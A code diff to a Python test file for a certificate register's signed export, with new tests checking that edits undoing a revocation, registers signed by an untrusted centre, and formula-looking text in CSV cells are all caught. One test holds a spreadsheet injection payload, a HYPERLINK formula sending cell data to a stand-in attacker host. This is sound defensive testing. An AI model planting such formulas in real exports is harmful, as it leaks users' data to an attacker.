@@ -9,7 +9,8 @@ from datetime import UTC, datetime
 import pytest
 from cert_helpers import ISSUED, ISSUER, SELF, VALIDATED, progress_achievement, tier_achievement
 
-from trainer.services.certificates import register
+from trainer.config import Paths
+from trainer.services.certificates import keys, register
 from trainer.services.certificates.errors import UnknownCertificate
 from trainer.services.certificates.verify import verify_credential, verify_qr
 
@@ -23,9 +24,9 @@ def two(service, signing_key, learner):
     return first, second
 
 
-def test_export_csv_and_json_and_read_them_back(service, two, tmp_path):
+def test_export_csv_and_json_and_read_them_back(service, two, signing_key, tmp_path):
     service.revoke(two[1].id, "issued to the wrong learner", now=NOW)
-    out_csv = service.export_register(tmp_path / "register.csv", ISSUER)
+    out_csv = service.export_register(tmp_path / "register.csv", signing_key, ISSUER)
     raw = out_csv.read_bytes()
     assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: spreadsheet programs then read the Chinese
     by_id = {r["certificate_id"]: r for r in csv.DictReader(raw.decode("utf-8-sig").splitlines())}
@@ -38,23 +39,24 @@ def test_export_csv_and_json_and_read_them_back(service, two, tmp_path):
     )
     assert rows[1]["status"] == "revoked" and rows[1]["revoke_reason"] == "issued to the wrong learner"
     assert rows[0]["credential_hash"] == two[0].qr_text.split("|")[-2]
-    out_json = service.export_register(tmp_path / "register.json", ISSUER)
+    out_json = service.export_register(tmp_path / "register.json", signing_key, ISSUER)
     doc = json.loads(out_json.read_text(encoding="utf-8"))
     assert doc["issuer"]["code"] == "HZ-001" and doc["issuer"]["fingerprint"]
     ids = {r["certificate_id"]: r["credential_id"] for r in doc["certificates"]}
     assert ids[two[0].id] == two[0].credential["id"]
     for path in (out_csv, out_json):
-        loaded = register.load(path)
+        loaded = register.load(path, [signing_key.public])
         assert loaded.get(two[1].id).revoked and not loaded.get(two[0].id).revoked
+        assert loaded.signer == signing_key.public and loaded.exported_at[:4] == str(datetime.now(UTC).year)
     with pytest.raises(ValueError):
-        service.export_register(tmp_path / "register.txt")
+        service.export_register(tmp_path / "register.txt", signing_key)
 
 
 def test_verification_with_the_register_reports_revocation(service, two, signing_key, tmp_path):
     trusted = [signing_key.public]
     assert verify_credential(two[0].jwt, trusted, register=service.local_register(), now=NOW).valid
     service.revoke(two[0].id, "tutor withdrew the sign-off", now=NOW)
-    reg = register.load(service.export_register(tmp_path / "r.json"))
+    reg = register.load(service.export_register(tmp_path / "r.json", signing_key), trusted)
     verdict = verify_credential(two[0].jwt, trusted, register=reg, now=NOW)
     assert not verdict.valid and verdict.reason == (
         f"certificate {two[0].id} was revoked on 2024-06-01: tutor withdrew the sign-off"
@@ -94,3 +96,45 @@ def test_the_register_outlives_the_learner(service, two, db, learner):
     LearnerRepository(db).delete(learner.id)
     records = service.register()
     assert [r.learner_id for r in records] == [None, None] and records[0].learner_name == "王秀英"
+
+
+def test_undoing_a_revocation_in_the_file_is_detected(service, two, signing_key, tmp_path):
+    """The audit's attack: edit "revoked" back to "valid" in the exported register."""
+    service.revoke(two[0].id, "issued by mistake", now=NOW)
+    for name in ("r.csv", "r.json"):
+        out = service.export_register(tmp_path / name, signing_key, ISSUER)
+        raw = out.read_bytes()
+        edited = raw.replace(b'"status": "revoked"', b'"status": "valid"').replace(b",revoked,", b",valid,")
+        edited = edited.replace(b"issued by mistake", b"").replace(NOW.strftime("%Y-%m-%d").encode(), b"")
+        assert edited != raw
+        out.write_bytes(edited)
+        with pytest.raises(register.RegisterError, match="changed after the centre signed it"):
+            register.load(out, [signing_key.public])
+        register.signature_file(out).unlink()
+        with pytest.raises(register.RegisterError, match="not signed"):
+            register.load(out, [signing_key.public])
+
+
+def test_another_centres_register_is_refused(service, two, signing_key, tmp_path):
+    other_paths = Paths(data=tmp_path / "other", cache=tmp_path / "other")
+    other_info = keys.create_signing_key(other_paths, "another centre's passphrase")
+    other = keys.load_signing_key(other_paths, "another centre's passphrase")
+    out = register.export([], tmp_path / "other.json", other, {"name": "别的中心"})
+    with pytest.raises(register.RegisterError, match="key you do not trust"):
+        register.load(out, [signing_key.public])
+    foreign = register.load(out, [signing_key.public, other_info])  # the verifier trusts both centres
+    verdict = verify_credential(two[0].jwt, [signing_key.public, other_info], register=foreign, now=NOW)
+    assert not verdict.valid and "another centre's" in verdict.reason
+    qr_verdict = verify_qr(two[0].qr_text, [signing_key.public, other_info], register=foreign, now=NOW)
+    assert not qr_verdict.valid and "another centre's" in qr_verdict.reason
+
+
+def test_a_reason_that_looks_like_a_formula_is_written_as_text(service, two, signing_key, tmp_path):
+    reason = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    service.revoke(two[0].id, reason, now=NOW)
+    out = service.export_register(tmp_path / "register.csv", signing_key, ISSUER)
+    rows = list(csv.reader(out.read_bytes().decode("utf-8-sig").splitlines()))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert "'" + reason in cells and reason not in cells
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
+    assert register.load(out, [signing_key.public]).get(two[0].id).revoke_reason == reason  # read back as is
